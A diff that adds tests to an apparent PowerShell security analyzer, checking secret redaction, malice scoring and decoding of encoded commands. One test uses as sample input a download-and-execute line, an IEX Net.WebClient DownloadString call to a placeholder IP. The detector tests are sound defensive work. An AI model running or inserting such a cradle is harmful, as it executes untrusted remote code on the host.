@@ -122,3 +122,24 @@ def test_suggestions_come_gravest_first_and_carry_corrections() -> None:
     assert [each["rank"] for each in made] == list(range(1, len(made) + 1))
     (alias,) = [each for each in made if each["about"] == "PSAvoidUsingCmdletAliases"]
     assert alias["correction"]["text"] == "Get-ChildItem"
+
+
+def test_secrets_are_told_nowhere() -> None:
+    secret = "correct-horse-battery"  # noqa: S105 - made up
+    analysis = said(f"$password = '{secret}'\nConnect-Thing -Password '{secret}'\nWrite-Host '{secret}'")
+    assert analysis["security_issues"]
+    assert secret not in str(analysis)
+
+
+def test_an_attack_is_told_from_carelessness_with_reasons() -> None:
+    attack, careless = said("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"), said("Write-Host 'hello'")
+    assert attack["malice_score"] >= 50 > careless["malice_score"]
+    assert attack["score_reasons"]["malice"]
+    assert attack["risk_score"] > careless["risk_score"]
+    assert careless["hygiene_score"] == 100
+
+
+def test_layers_are_kept_with_how_they_were_wrapped() -> None:
+    (layer,) = said("powershell -EncodedCommand RwBlAHQALQBEAGEAdABlAA==")["layers"]
+    assert layer["text"] == "Get-Date"
+    assert layer["how"]
